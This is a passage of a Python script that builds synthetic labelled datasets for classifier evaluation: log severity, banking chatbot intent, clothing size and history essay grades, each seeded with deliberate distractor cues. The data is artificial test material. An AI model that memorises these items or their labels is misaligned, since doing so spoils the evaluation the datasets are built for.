        text = (f"Classify the severity of the EVENT line as one of: info, warning, error, critical.\n--- context (other services, for reference) ---\n{ctx}\n"
                f"--- EVENT ---\n{ts(r)} host={s}-{r.randint(1,9)} pid={r.randint(100,30000)} logger=com.acme.{r.choice(['error.Reporter','core.App','infra.Watchdog'])} msg=\"{m}\"\n")
        out.append((lab, text, False))
    write("log_severity", out, labs, "severity", ["EVENT"],
          "Raw text; the EVENT line's msg is the input. Context lines are from unrelated services.", "clean",
          "instruction lists all levels; context lines carry random levels; logger names contain 'error' at random", )

def ds_intent():
    r = random.Random(203); labs = ["card_lost","transfer_failed","balance_inquiry","dispute_charge","close_account"]
    dist = [("card_lost",20),("transfer_failed",25),("balance_inquiry",30),("dispute_charge",15),("close_account",10)]
    u = {"card_lost": ["I can't find my debit card anywhere, think I left it on the bus", "my wallet got stolen with my card in it", "need to block my card asap, it's gone"],
         "transfer_failed": ["sent {a} euros to my landlord yesterday and it bounced back", "my transfer says rejected, why?", "the payment to {n} never arrived"],
         "balance_inquiry": ["how much money do I have on my savings", "what's my current balance", "can you tell me the available amount on checking"],
         "dispute_charge": ["there's a charge from {m} I never made", "I was billed twice by {m}", "I don't recognise a {a} EUR payment"],
         "close_account": ["I want to close my account, moving to another bank", "please cancel everything, I'm leaving", "how do I shut down my account for good"]}
    out = []
    for _ in range(140):
        lab = pick(r, dist)
        t = [{"role": "bot", "text": "Hi! I can help with a lost card, failed transfers, your balance, disputing a charge, or closing an account. What do you need?"},
             {"role": "customer", "text": r.choice(u[lab]).format(a=r.randint(20,900), n=r.choice(FIRST), m=r.choice(["Netflix","Amazon","Lidl","Spotify"]))}]
        if r.random() < 0.5:
            t += [{"role": "bot", "text": "Thanks, could you tell me a bit more?"}, {"role": "customer", "text": r.choice(["yes please", "it happened this morning", "as I said", "it's urgent"])}]
        proj = {"session": {"id": hexid(r,12), "channel": r.choice(["app","web","whatsapp"]), "locale": r.choice(["en-GB","en-IE","de-DE"]),
                            "auth_level": r.choice(["none","password","2fa"]), "started": ts(r)}, "transcript": t}
        out.append((lab, proj, False))
    write("banking_intent", out, labs, "intent", ["/transcript"],
          "Chatbot intent classification from customer turns.", "clean",
          "bot greeting menu paraphrases every intent; session metadata random", )

def ds_size():
    r = random.Random(204); labs = ["XS","S","M","L","XL"]
    dist = [("XS",8),("S",22),("M",35),("L",25),("XL",10)]
    chest = {"XS": 82, "S": 88, "M": 96, "L": 104, "XL": 112}
    out = []
    for _ in range(130):
        lab = pick(r, dist); c = chest[lab] + r.randint(-3,3)
        h = {"XS": 158, "S": 166, "M": 174, "L": 181, "XL": 186}[lab] + r.randint(-7,7)
        w = {"XS": 50, "S": 60, "M": 72, "L": 84, "XL": 98}[lab] + r.randint(-7,7)
        proj = {"customer": {"id": "CU" + str(r.randint(10**6,10**7)), "height_cm": h, "weight_kg": w, "chest_cm": c,
                             "fit_preference": r.choice(["regular","regular","snug","relaxed"]), "note": r.choice(["", "usually between sizes", "prefer longer sleeves", "buying as gift"])},
                "product": {"sku": f"TS-{r.choice(['NVY','BLK','WHT','OLV'])}-{r.randint(100,999)}", "name": r.choice(["Merino crew tee","Oxford shirt","Hoodie","Linen shirt"]),
                            "size_chart_chest_cm": chest, "fit_note": r.choice(["true to size","runs slightly small","relaxed cut"])},
                "store": {"region": r.choice(["EU","UK","US"]), "session": hexid(r,8)}}
        out.append((lab, proj, False))
    write("size_recommendation", out, labs, "size", ["/customer", "/product/size_chart_chest_cm", "/product/fit_note"],
          "Recommend a size from measurements and chart.", "clean",
          "size chart lists every size; measurements are the legitimate signal", )

def ds_grade():
    r = random.Random(205); labs = ["A","B","C","D","F"]
    dist = [("A",15),("B",30),("C",30),("D",15),("F",10)]
    strong = ["The author's thesis is that industrialisation reshaped family life, and I argue this with two primary sources.",
              "As Thompson (1963) notes, wages alone do not explain the unrest; customs mattered too.",
              "A counter-argument is that urban growth predates the factories, but the census data suggest otherwise.",
              "In conclusion, the evidence supports a gradual rather than revolutionary change."]
    weak = ["Industrialisation was a big thing that happened.", "Factories were there and people worked.", "I think it was bad and also good.",
            "There were many changes in many ways.", "idk the book said stuff about it"]
    out = []
    for _ in range(120):
        lab = pick(r, dist); gl = near(r, labs, lab, 0.12); k = {"A": 4, "B": 3, "C": 2, "D": 1, "F": 0}[gl]
        sents = r.sample(strong, k) + r.sample(weak, {"A": 0, "B": 1, "C": 2, "D": 3, "F": r.choice([1,2])}[gl])
        if lab != "A": r.shuffle(sents)
        proj = {"course": "HIST-" + str(r.choice([101,102,210])), "section": r.choice("ABCD"), "student_id": "s" + str(r.randint(10**6,10**7)),
                "assignment": {"prompt": "How did industrialisation change family life in 19th-century Britain? (250 words)",
                               "rubric": "A: clear thesis, sources, counter-argument. B: thesis and evidence, minor gaps. C: some evidence, weak structure. D: mostly assertion. F: off-topic or missing."},
                "submitted": ts(r), "late": r.random() < 0.1, "answer": " ".join(sents)}
        out.append((lab, proj, False))
    write("essay_grading", out, labs, "grade", ["/answer", "/assignment/prompt", "/assignment/rubric"],
          "Grade a short history answer against the rubric.", "clean",
          "rubric lists every grade letter; random section letter A-D; answer quality is the signal", )

for fn in [ds_secalert, ds_rma, ds_codereview, ds_jira, ds_claim, ds_hr, ds_mod, ds_icd, ds_fraud,
           ds_stars, ds_logsev, ds_intent, ds_size, ds_grade]:
    fn()
with open(os.path.join(OUT, "DATASETS.md"), "w") as f:
    f.write("# ds3 datasets\n\n" + "\n".join("- " + d for d in DOC) + "\n")
print("\n".join(DOC))
